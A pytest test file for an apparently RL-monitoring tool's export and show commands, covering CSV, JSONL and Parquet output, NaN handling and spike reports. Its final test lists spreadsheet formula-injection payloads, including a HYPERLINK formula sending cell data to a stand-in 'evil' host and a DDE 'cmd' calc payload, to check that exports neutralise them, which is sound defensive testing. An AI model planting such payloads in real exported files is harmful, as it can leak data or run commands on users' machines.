"""``rlwatch export spikes`` and ``StoredRun.spikes``: culprits as a table; ``show --spikes``: what recurs, and where."""

from __future__ import annotations

import csv
import json
import math
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from cli_helpers import NOW, Invoke, strict
from pyarrow import parquet

import rlwatch
from rlwatch.errors import ConfigError, RunNotFoundError
from rlwatch.export import COLUMNS, TABLES
from rlwatch.records import CULPRITS, LOCALISED, RESPONSES, CompletionBatch, Event, RunInfo, SpikeBatch, StepRecord

DOCS = Path(__file__).parents[2] / "docs" / "localisation.md"


def culprits(step: int, *, rank: int = 1, token: int = 2982, **more: Any) -> SpikeBatch:
    """Two culprits, the second not verified, its advantage NaN."""
    columns: dict[str, Any] = {
        "microbatch": np.array([0, 0]),
        "sequence": np.array([3, 4]),
        "position": np.array([7, 2]),
        "token_id": np.array([token, 46]),
        "advantage": np.array([-math.inf, math.nan]),
        "contribution": np.array([29.7, -3.94]),
        "share": np.array([0.876, -0.116]),
        "cause": ["token ratio", "reward outlier"],
        "why": ["ratio", "=1+1, a \"quote\"\nand a line"],
        "verified": np.array([1, 0]),
        "own_norm": np.array([32.5, 0.0]),
        "layers": [json.dumps({"lm_head": 0.2, "model.layers.17": 0.8}), "{}"],
        "prompt_index": np.array([812, 5]),
        "group": ["3", "1"],
        "task": ["math", ""],
    }  # fmt: skip
    return SpikeBatch(step, columns | more, reason=CULPRITS, rank=rank)


def localised(step: int, **more: Any) -> Event:
    body = {"norm": 8.0, "threshold": 1.0, "cause": "token ratio", "complete": True, "why_not": "", "gap": 1e-5}
    return Event(LOCALISED, step, body | more, seq=100 + step)


RESPONSE = SpikeBatch(
    9,
    {
        "sequence": np.array([3] * 5),
        "position": np.array([5, 6, 7, 8, 12]),
        "token_id": np.arange(5),
        "text": [" The", " answer", " is\x1b[31m", " 7", " end"],
    },
    reason=RESPONSES,
    rank=1,
)
ITEMS = (
    culprits(4), localised(4), culprits(9, reward_parts=['{"format": 0.5}', "{}"], reward=np.array([0.5, 1.0])),
    localised(9), localised(11, why_not="the budget is used up", norm=math.nan), RESPONSE,
)  # fmt: skip


@pytest.fixture
def store(tmp_path: Path) -> Path:
    writer = rlwatch.open_store(tmp_path / "runs").open_run(RunInfo("r", name="math", created_at=NOW))
    writer.write([StepRecord(1, {"entropy": 1.0}, seq=1), *ITEMS])
    writer.close()
    return tmp_path / "runs"


def test_csv_keeps_missing_nan_and_infinity_apart(store: Path, tmp_path: Path, invoke: Invoke) -> None:
    """A row for each culprit, worst first, and one for the spike that was not localised."""
    out = tmp_path / "spikes.csv"
    said = invoke("export", "spikes", "math", out, "--store", store).stdout
    with out.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))

    assert "5 rows written" in said
    assert list(rows[0]) == list(COLUMNS)
    assert [(row["step"], row["place"], row["sequence"]) for row in rows] == [
        ("4", "0", "3"), ("4", "1", "4"), ("9", "0", "3"), ("9", "1", "4"), ("11", "", ""),
    ]  # fmt: skip
    assert [rows[0][name] for name in ("advantage", "own_norm", "logp", "rank")] == ["-Infinity", "32.5", "", "1"]
    assert [rows[1][name] for name in ("advantage", "own_norm", "layers")] == ["NaN", "", ""]
    assert rows[1]["why"] == '\'=1+1, a "quote"\nand a line', "no formula for a spreadsheet"
    assert (rows[4]["why_not"], rows[4]["norm"], rows[4]["token_id"]) == ("the budget is used up", "NaN", "")
    assert rows[2]["step_cause"] == "token ratio"


def test_parquet_has_types_and_says_what_columns_mean(store: Path, tmp_path: Path, invoke: Invoke) -> None:
    """NaN is no null; columns that nothing was recorded of are there."""
    invoke("export", "spikes", "r", tmp_path / "spikes.parquet", "--store", store)
    table = parquet.read_table(tmp_path / "spikes.parquet")

    assert table.column_names == list(COLUMNS)
    assert table["advantage"].null_count == 1
    assert math.isnan(table["advantage"][1].as_py())
    assert table["logp"].null_count == 5
    assert str(table.schema.field("complete").type) == "bool"
    assert table.schema.field("share").metadata[b"meaning"] == b"contribution / norm"


@pytest.fixture
def resumed(tmp_path: Path) -> Path:
    """Two processes that both logged step 2; NaN, infinities and what was not measured."""
    opened = rlwatch.open_store(tmp_path / "two")
    for attempt, steps in enumerate(((1, 2), (2, 3)), start=1):
        writer = opened.open_run(RunInfo("r", name="math", created_at=NOW))
        at = opened.first_seq("r", attempt)
        rows = [{"reward": step / 4, "kl": (math.nan, math.inf, -math.inf)[step - 1]} for step in steps]
        rows[-1] |= {"entropy": 0.5}
        writer.write(
            [
                StepRecord(s, row, ts=NOW, attempt=attempt, seq=at + i)
                for i, (s, row) in enumerate(zip(steps, rows, strict=True))
            ]
        )
        writer.write([Event("note", steps[0], {"text": "a\nb"}, ts=NOW, attempt=attempt, seq=at + len(rows))])
        writer.close()
    return tmp_path / "two"


HISTORY = [
    {"step": 1, "attempt": 1, "kl": math.nan, "reward": 0.25},
    {"step": 2, "attempt": 1, "entropy": 0.5, "kl": math.inf, "reward": 0.5},
    {"step": 2, "attempt": 2, "kl": math.inf, "reward": 0.5},
    {"step": 3, "attempt": 2, "entropy": 0.5, "kl": -math.inf, "reward": 0.75},
]


def test_the_history_is_written_step_by_step_for_every_process(resumed: Path, tmp_path: Path, invoke: Invoke) -> None:
    """In three formats the same: what was not measured is missing, NaN and infinities are values."""
    for name in ("m.csv", "m.jsonl", "m.parquet"):
        assert "4 rows" in invoke("export", "history", "r", tmp_path / name, "--store", resumed).stdout

    lines = [strict(line) for line in (tmp_path / "m.jsonl").read_text().splitlines()]
    table = parquet.read_table(tmp_path / "m.parquet").to_pylist()
    with (tmp_path / "m.csv").open(newline="", encoding="utf-8") as file:
        cells = list(csv.DictReader(file))
    assert repr([{**row, "kl": float(row["kl"])} for row in lines]) == repr(HISTORY)
    assert repr([{name: value for name, value in row.items() if value is not None} for row in table]) == repr(HISTORY)
    assert [row["kl"] for row in cells] == ["NaN", "Infinity", "Infinity", "-Infinity"]
    assert [row["entropy"] for row in cells] == ["", "0.5", "", "0.5"]


def test_what_is_exported_can_be_imported(resumed: Path, tmp_path: Path, invoke: Invoke) -> None:
    """By the reader of JSON lines that reads anybody's: the same values, the NaN and the infinities too."""
    invoke("export", "history", "r", tmp_path / "m.jsonl", "--store", resumed)
    invoke("import", tmp_path / "m.jsonl", "--store", tmp_path / "again", "--name", "again")

    found = rlwatch.open(tmp_path / "again")["again"].history(["kl", "entropy"], attempts="all")
    assert repr(found["kl"].tolist()) == "[nan, inf, -inf]"
    assert found["entropy"].isna().tolist() == [True, False, False]


@pytest.mark.parametrize("kind", sorted(TABLES))
def test_every_table_of_a_run_can_be_written(kind: str, resumed: Path, tmp_path: Path, invoke: Invoke) -> None:
    """Also an empty one: with its columns."""
    for name in (f"{kind}.csv", f"{kind}.jsonl", f"{kind}.parquet"):
        invoke("export", kind, "r", tmp_path / name, "--store", resumed)

    columns = parquet.read_table(tmp_path / f"{kind}.parquet").column_names
    with (tmp_path / f"{kind}.csv").open(newline="", encoding="utf-8") as file:
        assert next(csv.reader(file)) == columns
    assert "step" in columns
    if kind == "events":
        bodies = [json.loads(line)["body"] for line in (tmp_path / "events.jsonl").read_text().splitlines()]
        assert [json.loads(body)["text"] for body in bodies if "text" in body] == ["a\nb", "a\nb"]


def test_a_table_that_there_is_not_is_named_with_those_there_are(resumed: Path) -> None:
    """From Python; the command line has a command for each."""
    with pytest.raises(ConfigError, match=r"no table 'losses'.*history, findings"):
        rlwatch.open(resumed)["r"].table("losses")


def test_python_gets_a_data_frame(store: Path) -> None:
    """By id or by name; missing is <NA>, and so can be told from NaN."""
    import pandas as pd

    frame = rlwatch.open(store)["math"].spikes()

    assert list(frame.columns) == list(COLUMNS)
    assert frame.groupby("task")["step"].nunique()["math"] == 2
    assert frame["logp"].isna().all()
    assert frame["prompt_index"].dtype == pd.ArrowDtype(__import__("pyarrow").int64())
    with pytest.raises(RunNotFoundError, match="nothing"):
        rlwatch.open(store)["nothing"].spikes()


def test_a_run_without_spikes_is_an_empty_table(tmp_path: Path) -> None:
    """With all its columns."""
    rlwatch.open_store(tmp_path).open_run(RunInfo("calm", created_at=NOW)).close()

    frame = rlwatch.open(tmp_path)["calm"].spikes()

    assert (len(frame), list(frame.columns)) == (0, list(COLUMNS))


def test_a_name_of_two_runs_is_refused(tmp_path: Path) -> None:
    """It could be either."""
    for run in ("a", "b"):
        rlwatch.open_store(tmp_path).open_run(RunInfo(run, name="same", created_at=NOW)).close()

    with pytest.raises(ConfigError, match="fits 2 runs"):
        rlwatch.open(tmp_path)["same"].spikes()


@pytest.mark.parametrize(("name", "says"), [("spikes.xlsx", "*.csv, *.jsonl or *.parquet"), ("there.csv", "--force")])
def test_what_cannot_be_written_is_said_in_a_line(
    store: Path, tmp_path: Path, invoke: Invoke, name: str, says: str
) -> None:
    """And the file that was there is as it was."""
    (tmp_path / "there.csv").write_text("mine")
    result = invoke("export", "spikes", "r", tmp_path / name, "--store", store)

    assert result.exit_code == 2
    assert says in result.stderr
    assert (tmp_path / "there.csv").read_text() == "mine"


def test_without_pyarrow_one_line_names_the_extra(store: Path, tmp_path: Path) -> None:
    """CSV needs nothing."""
    code = "import sys; sys.modules['pyarrow'] = None; from rlwatch.cli.entry import main; main()"
    done = [
        subprocess.run(
            [sys.executable, "-c", code, "export", "spikes", "r", str(tmp_path / file), "--store", str(store)],
            capture_output=True, text=True, check=False, timeout=120,
        )
        for file in ("a.parquet", "a.csv")
    ]  # fmt: skip

    assert done[0].returncode == 2
    assert "rlwatch-monitor[export]" in done[0].stderr
    assert "Traceback" not in done[0].stderr
    assert done[1].returncode == 0


def test_the_docs_list_every_column() -> None:
    """In order, with its type and meaning."""
    listed = re.findall(r"^\| `(\w+)` \| (\w+) \| (.+) \|$", DOCS.read_text(encoding="utf-8"), re.MULTILINE)

    assert listed == [(name, column.kind, column.meaning) for name, column in COLUMNS.items()]


def test_show_tells_what_recurs(store: Path, invoke: Invoke) -> None:
    """Over the steps of the run: tokens, positions, prompts, tasks, causes, layers."""
    text = invoke("show", "r", "--spikes", "--store", store).stdout
    document = strict(invoke("show", "r", "--spikes", "--store", store, "--format", "json").stdout)

    assert "Recurring over 2 localised steps" in text
    assert re.search(r"task +math in 2", text)
    assert re.search(r"prompt +812 in 2, 5 in 2", text)
    assert {"property": "token", "value": "2982", "steps": 2, "of": 2} in document["recurring"]


def test_culprits_of_rank_1_alone_keep_their_rank(store: Path, invoke: Invoke) -> None:
    """It is where to look."""
    assert " rank " in invoke("show", "r", "--spikes", "--store", store).stdout


def test_show_opens_the_response_with_culprits_in_place(store: Path, invoke: Invoke) -> None:
    """Whose it is, its rewards, its text; nothing in it commands the terminal."""
    text = invoke("show", "r", "--spikes", "--store", store).stdout
    document = strict(invoke("show", "r", "--spikes", "--store", store, "--format", "json").stdout)

    assert "step 9, rank 1, sequence 3, prompt 812, group 3, task math, reward 0.5 (format 0.5)" in text
    assert "answer: The answer[[ is" in text
    assert "]] 7 ... end" in text
    assert "\x1b[31m" not in text
    assert document["responses"][0]["culprits"] == [7]


FORMULAS = ('=HYPERLINK("http://evil/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "  =1", "\uff1d1+1")
NO_FORMULAS = ("reward", "-1.5e-3", "+7", "a=b", "", "'=1")


def test_a_spreadsheet_finds_no_formula_in_names_headers_and_texts(tmp_path: Path, invoke: Invoke) -> None:
    """In CSV alone: the other formats are not opened by a double click, and keep every letter."""
    writer = rlwatch.open_store(tmp_path / "runs").open_run(RunInfo("r", name="=1+2", created_at=NOW))
    texts = [*FORMULAS, *NO_FORMULAS]
    batch = CompletionBatch(1, {"completion": texts, "reward": np.full(len(texts), -1.0)})
    writer.write([StepRecord(1, {"=cmd()": 1.0, "-kl": -2.0}, seq=1), batch])
    writer.close()
    for kind, ending in (("history", "csv"), ("completions", "csv"), ("completions", "jsonl")):
        assert invoke("export", kind, "r", tmp_path / f"{kind}.{ending}", "--store", tmp_path / "runs").exit_code == 0
    with (tmp_path / "history.csv").open(newline="", encoding="utf-8") as file:
        head, row = csv.reader(file)
    with (tmp_path / "completions.csv").open(newline="", encoding="utf-8") as file:
        cells = [one["completion"] for one in csv.DictReader(file)]
    whole = [json.loads(line)["completion"] for line in (tmp_path / "completions.jsonl").read_text().splitlines()]

    assert head[2:] == ["'-kl", "'=cmd()"]
    assert row[2:] == ["-2.0", "1.0"], "a number is a number"
    assert sorted(cells) == sorted([*(f"'{text}" for text in FORMULAS), *NO_FORMULAS])
    assert sorted(whole) == sorted(texts)
